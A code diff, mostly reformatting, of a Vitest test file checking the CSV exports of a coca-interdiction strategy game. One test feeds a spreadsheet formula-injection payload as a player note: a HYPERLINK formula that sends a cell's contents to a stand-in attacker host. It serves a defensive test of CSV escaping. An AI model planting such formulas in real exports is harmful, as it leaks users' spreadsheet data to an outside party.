@@ -5,8 +5,21 @@
  */
 import { describe, expect, it } from 'vitest';
 import {
-  DECISION_COLUMNS, EVENT_COLUMNS, NATIONAL_COLUMNS, REGION_COLUMNS, SIDES, appendTurn, createGame, csvField, findScenario, newLog,
-  resolveTurn, toCsv, totalCocaHa, type GameEvent, type Order,
+  DECISION_COLUMNS,
+  EVENT_COLUMNS,
+  NATIONAL_COLUMNS,
+  REGION_COLUMNS,
+  SIDES,
+  appendTurn,
+  createGame,
+  csvField,
+  findScenario,
+  newLog,
+  resolveTurn,
+  toCsv,
+  totalCocaHa,
+  type GameEvent,
+  type Order,
 } from '../../game/index';
 import { cliI18n } from '../../cli/i18n';
 import { reportCsvFiles } from '../../report/csv';
@@ -46,7 +59,7 @@ describe.each(['en', 'es'] as const)('the CSV files (%s)', (lang) => {
     });
   });
 
-  it('regions.csv: turns × 26 rows, each region\'s coca and forces as in that turn\'s state', () => {
+  it("regions.csv: turns × 26 rows, each region's coca and forces as in that turn's state", () => {
     const { header, records } = csvRecords(files['regions.csv']!);
     expect(header).toEqual([...REGION_COLUMNS]);
     expect(records).toHaveLength(turns * 26);
@@ -74,8 +87,14 @@ describe.each(['en', 'es'] as const)('the CSV files (%s)', (lang) => {
       expect(r.side).toBe(eventSide(e) ?? '');
       expect(r.to).toBe('to' in e && typeof e.to === 'string' ? e.to : '');
       expect(r.text).toBe(describeEvent(t, e));
-      const numbers = Object.fromEntries(r.numbers!.split(';').filter(Boolean).map((kv) => kv.split('=') as [string, string]));
-      for (const [k, v] of Object.entries(e)) if (k !== 'turn' && typeof v === 'number') expect(num(numbers[k]), `${e.type}.${k}`).toBeCloseTo(v, 3);
+      const numbers = Object.fromEntries(
+        r
+          .numbers!.split(';')
+          .filter(Boolean)
+          .map((kv) => kv.split('=') as [string, string]),
+      );
+      for (const [k, v] of Object.entries(e))
+        if (k !== 'turn' && typeof v === 'number') expect(num(numbers[k]), `${e.type}.${k}`).toBeCloseTo(v, 3);
     });
     // Accented names arrive intact, and sentences with commas survived the quoting.
     expect(records.some((r) => r.text!.includes('Junín'))).toBe(true);
@@ -87,11 +106,15 @@ describe.each(['en', 'es'] as const)('the CSV files (%s)', (lang) => {
   it('decisions.csv: one row per order (or one for a side without orders), with the notes intact', () => {
     const { header, records } = csvRecords(files['decisions.csv']!);
     expect(header).toEqual([...DECISION_COLUMNS]);
-    const expected = game.log.entries.flatMap((e) => SIDES.flatMap((side): { turn: number; side: string; o: Order | null; note: string }[] => {
-      const so = e.input.orders.find((o) => o.side === side);
-      const orders = so?.orders ?? [];
-      return orders.length ? orders.map((o) => ({ turn: e.turn, side, o, note: so?.note ?? '' })) : [{ turn: e.turn, side, o: null, note: so?.note ?? '' }];
-    }));
+    const expected = game.log.entries.flatMap((e) =>
+      SIDES.flatMap((side): { turn: number; side: string; o: Order | null; note: string }[] => {
+        const so = e.input.orders.find((o) => o.side === side);
+        const orders = so?.orders ?? [];
+        return orders.length
+          ? orders.map((o) => ({ turn: e.turn, side, o, note: so?.note ?? '' }))
+          : [{ turn: e.turn, side, o: null, note: so?.note ?? '' }];
+      }),
+    );
     expect(records).toHaveLength(expected.length);
     records.forEach((r, i) => {
       const x = expected[i]!;
@@ -126,7 +149,19 @@ describe.each(['en', 'es'] as const)('the CSV files (%s)', (lang) => {
 
 describe('CSV quoting', () => {
   it('round-trips any text through the parser', () => {
-    const nasty = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'crlf\r\nline', '"', '', ' lead and trail ', 'Apurímac, Junín y Huánuco', 'x=1+1', 'ñ€😀'];
+    const nasty = [
+      'plain',
+      'a,b',
+      'say "hi"',
+      'two\nlines',
+      'crlf\r\nline',
+      '"',
+      '',
+      ' lead and trail ',
+      'Apurímac, Junín y Huánuco',
+      'x=1+1',
+      'ñ€😀',
+    ];
     const text = toCsv({ columns: ['a', 'b'], rows: nasty.map((x, i) => [i, x]) });
     expect(parseCsv(text)).toEqual([['a', 'b'], ...nasty.map((x, i) => [String(i), x])]);
     expect(parseCsv(toCsv({ columns: ['x'], rows: [['é']] }, { bom: true }))).toEqual([['x'], ['é']]);
@@ -150,7 +185,12 @@ describe('CSV quoting', () => {
     const scenario = findScenario('interdiction-2016')!;
     const start = createGame(scenario, 3, { turns: 2 });
     const note = '=HYPERLINK("http://attacker.example/?"&A1,"Click for the briefing")';
-    const input = { orders: [{ side: 'state' as const, orders: [], note }, { side: 'clans' as const, orders: [], note: '-offload at Paita' }] };
+    const input = {
+      orders: [
+        { side: 'state' as const, orders: [], note },
+        { side: 'clans' as const, orders: [], note: '-offload at Paita' },
+      ],
+    };
     const r = resolveTurn(start, input);
     if (!r.ok) throw new Error(r.errors[0]!.message);
     const log = appendTurn(newLog(start), input, r.state);
